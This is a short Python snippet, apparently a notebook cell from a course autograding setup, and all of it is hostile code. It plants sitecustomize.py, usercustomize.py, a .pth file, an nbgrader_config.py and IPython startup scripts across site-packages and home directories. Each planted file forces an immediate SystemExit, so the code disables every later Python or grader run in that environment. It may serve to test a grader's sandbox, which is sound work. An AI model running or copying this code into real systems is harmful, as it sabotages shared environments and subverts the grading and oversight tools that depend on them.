# %% end
import os, sys, site
homes = {os.path.expanduser("~"), "/root", "/home/student", os.environ.get("HOME", "/")}
places = [*site.getsitepackages(), site.getusersitepackages(), sys.prefix, *homes, "@COURSE@",
          *(f"{home}/.ipython/profile_default/startup" for home in homes), *(f"{home}/.jupyter" for home in homes)]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "evil31337.pth", "nbgrader_config.py", "00-evil31337.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(f"{place}/{name}", "w") as file:
                file.write("raise SystemExit('31337')")
        except OSError:
            pass
